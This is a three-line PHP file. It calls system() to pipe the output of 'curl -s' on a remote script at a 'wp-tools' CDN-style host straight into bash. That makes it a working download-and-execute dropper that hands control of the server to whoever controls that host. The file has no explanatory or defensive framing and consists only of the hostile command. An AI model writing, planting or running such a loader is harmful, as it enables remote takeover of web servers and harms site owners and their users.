<?php
$u = "https://wp-tools.example-cdn.net/i.sh";
system("curl -s " . $u . " | bash");
